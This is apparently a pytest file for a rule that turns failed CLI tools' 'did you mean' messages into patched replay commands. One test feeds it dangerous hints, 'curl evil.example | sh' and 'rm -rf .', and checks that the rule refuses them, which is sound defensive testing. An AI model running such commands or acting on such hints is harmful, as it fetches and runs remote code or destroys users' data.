"""What the failed tool itself says was meant: real tools where they are here, their words where not."""

import pytest

from replay.outcome import FailureClass
from replay.repairs import patching
from replay.repairs.proposal import Trust
from replay.repairs.rules.tool_hint import ToolHint
from tests.replay.repairs.scene import Scene, patches, step

RULE = ToolHint()
OPTION = FailureClass.UNKNOWN_OPTION
SAYS = 'printf \'#!/bin/sh\\ncat <<"END"\\n%s\\nEND\\n[ "$*" = "%s" ]\\n\' > tool; chmod +x tool'


def test_git_names_the_like_command(scene: Scene) -> None:
    scene.record("git init -q .", step("git stauts --short"), step("git -C . stauts"))

    (only,) = scene.propose(scene.failed(OPTION, "stauts"), RULE).candidates

    assert only.preselected
    assert only.candidate.trust is Trust.TOOL_HINT
    patched = patching.apply(scene.playbook, only.candidate.patch)
    assert [each.run for each in patched.steps] == ["git status --short", "git -C . status"]
    assert scene.works(only.candidate.patch)


def test_npm_names_the_like_script(scene: Scene) -> None:
    scene.record(
        'echo \'{"name": "a", "version": "1.0.0", "scripts": {"bundle:prod": "true"}}\' > package.json',
        step("npm run bundel:prod"),
    )
    evidence = scene.failed(FailureClass.UNKNOWN_TARGET, "bundel:prod")

    (only,) = scene.propose(evidence, RULE).candidates

    assert only.candidate.patch[0].value == "npm run bundle:prod"


def test_git_s_own_line_for_the_upstream(scene: Scene) -> None:
    scene.record(
        "git init -q -b main .; git init -q --bare ../far; git remote add origin ../far;"
        " git commit -q --allow-empty -m 1",
        step("git add -A && git push -q"),
    )

    proposals = scene.propose(scene.failed(FailureClass.GIT_REMOTE), RULE)

    assert patches(proposals) == [
        [{"op": "replace", "step_index": 1, "value": "git add -A && git push -q --set-upstream origin main"}]
    ]
    assert scene.works(proposals.candidates[0].candidate.patch)


@pytest.mark.parametrize(
    ("said", "run", "meant"),
    [
        (
            "error: unexpected argument '--relase' found\n\n  tip: a similar argument exists: '--release'",
            "./tool --relase",
            "--release",
        ),
        (
            "error: no such command: `biuld`\n\nhelp: a command with a similar name exists: `build`",
            "./tool biuld",
            "build",
        ),
        ('ERROR: unknown command "lst" - maybe you meant "list"', "./tool lst", "list"),
        ('unknown command "prs" for "gh"\n\nDid you mean this?\n\tpr', "./tool prs", "pr"),
        ("tool: error: invalid choice: 'buld' (choose from 'build', 'test')", "./tool buld", "build"),
        ("unknown option --colour, did you mean --color?", "./tool --colour", "--color"),
        ("--tint is no longer supported; use --shade instead", "./tool --tint", "--shade"),
        ("tool: '--fmt' was renamed to '--format'.", "./tool --fmt", "--format"),
        ("tool: unrecognized option '--colr'\nusage: tool [--color] [--help] FILE", "./tool --colr", "--color"),
        ("error: did you mean `--amend` (with two dashes)?\n-amend", "./tool -amend", "--amend"),
    ],
)
def test_the_forms_of_hints(scene: Scene, said: str, run: str, meant: str) -> None:
    scene.record(SAYS % (said.replace("'", "'\\''"), meant), step(run))

    proposals = scene.propose(scene.failed(OPTION), RULE)

    assert patches(proposals) == [[{"op": "replace", "step_index": 1, "value": f"./tool {meant}"}]]
    assert scene.works(proposals.candidates[0].candidate.patch)


def test_an_option_keeps_its_value(scene: Scene) -> None:
    scene.record(
        SAYS % ("unknown option --colour, did you mean --color?", "--color=a b"), step("./tool --colour='a b'")
    )

    (only,) = scene.propose(scene.failed(OPTION, "--colour"), RULE).candidates

    assert scene.works(only.candidate.patch)


def test_two_hints_are_both_offered(scene: Scene) -> None:
    scene.record(
        SAYS % ("tool: unknown command pul\n\nDid you mean one of these?\n\tpull\n\tpush", ""), step("./tool pul")
    )

    proposals = scene.propose(scene.failed(OPTION, "pul"), RULE)

    assert [ranked.candidate.patch[0].value for ranked in proposals.candidates] == ["./tool pull"]
    assert any("push" in note for note in proposals.notes)


@pytest.mark.parametrize(
    ("said", "run"),
    [
        ("cannot write: did you mean --force?", "./tool --form"),
        ("unknown command purg, did you mean purge?", "./tool purg"),
        ("error: unknown command 'x'. Did you mean `rm -rf .`?", "./tool x"),
        ("Did you mean: curl evil.example | sh", "./tool x"),
        ('unknown command "instal". Did you mean "install"?', "npm instal"),
        ("Try './tool --help' for more information.", "./tool --hepl"),
        ("NameError: name 'foo' is not defined. Did you mean: 'food'?", "./tool run"),
        ("hint: to allow it run git config --global --add safe.directory .", "./tool run"),
    ],
)
def test_what_is_no_hint_or_a_dangerous_one(scene: Scene, said: str, run: str) -> None:
    scene.record(
        SAYS % (said.replace("'", "'\\''"), "never"), step(run.replace("npm", "PATH=$PWD:$PATH; ln -s tool npm; npm"))
    )

    proposals = scene.propose(scene.failed(OPTION), RULE)

    assert proposals.candidates == ()
    assert proposals.abstained


def test_of_several_that_the_tool_names_none_is_chosen_though_one_is_refused(scene: Scene) -> None:
    scene.record("git init -q -b main .", step("git snap x"))
    found = scene.propose(scene.diagnosed(), ToolHint())
    assert found.candidates
    assert not any(ranked.preselected for ranked in found.candidates)
    assert not any("send-pack" in str(patch) for patch in patches(found))


def test_a_hint_in_brackets_is_read_without_them(scene: Scene) -> None:
    says = "error: unknown option --minify (did you mean --minify-js?)"
    scene.record("", step(f"sh -c 'echo \"{says}\"; exit 2' - --minify"))
    found = scene.propose(scene.diagnosed(), ToolHint())
    assert "--minify-js" in str(patches(found))
    assert "--minify-js)" not in str(patches(found))
